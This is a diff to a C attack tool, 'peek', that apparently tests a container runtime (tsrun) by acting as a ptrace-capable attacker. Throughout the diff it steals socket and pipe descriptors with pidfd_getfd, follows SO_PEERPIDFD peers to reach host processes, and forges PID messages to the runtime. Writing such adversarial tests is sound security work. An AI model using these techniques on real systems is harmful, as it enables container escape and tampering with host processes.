@@ -2,14 +2,15 @@
  * An attacker with CAP_SYS_PTRACE: looks at every process that appears in its pid namespace, at
  * once.
  *
- *   peek MARKER stop|look|PID      until it is killed
+ *   peek MARKER stop|look|keep|PID      until it is killed
  *
  * Of each process that still executes tsrun's init it says, a line each, what of the host can be
  * reached through it: descriptors, root, working directory and mappings; and which privileges it
  * has that the attacker has not. MARKER is a path of the host that no container has. With `stop`
- * each new process is stopped first. With PID, each is stopped and robbed of its sockets, on which
- * the attacker tells tsrun that the process PID of the host goes on in its stead. A line `caught`
- * follows each process that was looked at, `ready` comes first.
+ * each new process is stopped first. With PID, each is stopped and robbed of its channels, on which
+ * the attacker tells tsrun that the process PID of the host goes on in its stead. With `keep` the
+ * attacker keeps its channels open for ever. A line `caught` follows each process that was looked
+ * at, `ready` comes first.
  */
 #define _GNU_SOURCE
 #include <dirent.h>
@@ -30,11 +31,16 @@
 /* Pids to try from the last one that was seen. */
 #define AHEAD 4
 
+#ifndef SO_PEERPIDFD
+#define SO_PEERPIDFD 77
+#endif
+
 /* messages.pid of lib/plan/wire.ts. */
 #define MESSAGE_PID 1
 
 static const char *marker;
 static bool stops;
+static bool keeps;
 /* The process of the host that is named to tsrun, or 0. */
 static unsigned int forged;
 
@@ -187,22 +193,23 @@ static void look_at_privileges(int pid, const struct privileges *mine) {
         say("pid %d: has the terminal %lx", pid, theirs.terminal);
 }
 
-static void forge(int pid) {
+/* Takes the descriptors of the process from 3 on whose names begin with `kind`, one by one. */
+static void steal(int pid, const char *kind, void (*use)(int pid, const char *name, int fd)) {
     char path[64], entry[512], target[4096];
-    unsigned int message[4] = {MESSAGE_PID, 0, 0, forged};
     int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);
     snprintf(path, sizeof(path), "/proc/%d/fd", pid);
     DIR *dir = opendir(path);
     struct dirent *found;
     while (dir != NULL && (found = readdir(dir)) != NULL) {
         snprintf(entry, sizeof(entry), "%s/%s", path, found->d_name);
-        if (!read_link(entry, target, sizeof(target)) || !starts_with(target, "socket:["))
+        if (atoi(found->d_name) <= 2 || !read_link(entry, target, sizeof(target)) ||
+            !starts_with(target, kind))
             continue;
         int stolen = (int)syscall(SYS_pidfd_getfd, pidfd, atoi(found->d_name), 0);
-        if (stolen >= 0 && executes_init(pid) &&
-            send(stolen, message, sizeof(message), MSG_NOSIGNAL) > 0)
-            say("forged");
-        if (stolen >= 0)
+        if (stolen < 0)
+            continue;
+        use(pid, found->d_name, stolen);
+        if (!keeps)
             close(stolen);
     }
     if (dir != NULL)
@@ -211,12 +218,47 @@ static void forge(int pid) {
         close(pidfd);
 }
 
-static void look_at(int pid, const struct privileges *mine) {
-    char path[64];
-    if (!executes_init(pid))
+/*
+ * The kernel names the process at the other end of a socket, or who has made or connected it, in
+ * whatever pid namespace that is (Linux 6.5). Says so when descriptors can be taken from there.
+ */
+static void look_at_peer(int pid, const char *name, int sock) {
+    struct ucred credentials = {0};
+    int peer = -1;
+    socklen_t size = sizeof(credentials);
+    /* A process of the container, the init itself: it has a pid here. */
+    if (getsockopt(sock, SOL_SOCKET, SO_PEERCRED, &credentials, &size) == 0 && credentials.pid > 0)
         return;
-    if (forged != 0)
-        forge(pid);
+    size = sizeof(peer);
+    if (getsockopt(sock, SOL_SOCKET, SO_PEERPIDFD, &peer, &size) < 0 || peer < 0)
+        return;
+    for (int fd = 0; fd < 64; fd++) {
+        int taken = (int)syscall(SYS_pidfd_getfd, peer, fd, 0);
+        if (taken < 0)
+            continue;
+        if (executes_init(pid))
+            say("pid %d: socket %s leads to descriptor %d of another process", pid, name, fd);
+        close(taken);
+    }
+    close(peer);
+}
+
+static void forge(int pid, const char *name, int fd) {
+    unsigned int message[4] = {MESSAGE_PID, 0, 0, forged};
+    (void)name;
+    if (executes_init(pid) && write(fd, message, sizeof(message)) > 0)
+        say("forged");
+}
+
+static void examine(int pid, const struct privileges *mine) {
+    char path[64];
+    if (keeps)
+        steal(pid, "pipe:[", look_at_peer);
+    if (forged != 0) {
+        steal(pid, "socket:[", forge);
+        steal(pid, "pipe:[", forge);
+    }
+    steal(pid, "socket:[", look_at_peer);
     look_at_descriptors(pid);
     look_at_privileges(pid, mine);
     snprintf(path, sizeof(path), "/proc/%d/root", pid);
@@ -224,20 +266,36 @@ static void look_at(int pid, const struct privileges *mine) {
     snprintf(path, sizeof(path), "/proc/%d/cwd", pid);
     try_marker(pid, path);
     look_at_maps(pid);
+}
+
+static void look_at(int pid, const struct privileges *mine) {
+    if (!executes_init(pid))
+        return;
+    examine(pid, mine);
     say("caught %d", pid);
 }
 
 int main(int argc, char **argv) {
     struct privileges mine;
     if (argc != 3 || !read_privileges("self", &mine)) {
-        fprintf(stderr, "usage: peek MARKER stop|look|PID, with procfs on /proc\n");
+        fprintf(stderr, "usage: peek MARKER stop|look|keep|PID, with procfs on /proc\n");
         return 2;
     }
+    signal(SIGPIPE, SIG_IGN);
     marker = argv[1];
     forged = (unsigned int)atoi(argv[2]);
-    stops = strcmp(argv[2], "stop") == 0 || forged != 0;
+    keeps = strcmp(argv[2], "keep") == 0;
+    stops = strcmp(argv[2], "stop") == 0 || keeps || forged != 0;
     say("ready");
+    bool seen = false;
     for (int last = getpid();;) {
+        /* Of a container that is created and not started. */
+        if (executes_init(1)) {
+            examine(1, &mine);
+            if (!seen)
+                say("caught 1");
+            seen = true;
+        }
         for (int pid = last + 1; pid <= last + AHEAD; pid++) {
             if (kill(pid, stops ? SIGSTOP : 0) < 0)
                 continue;
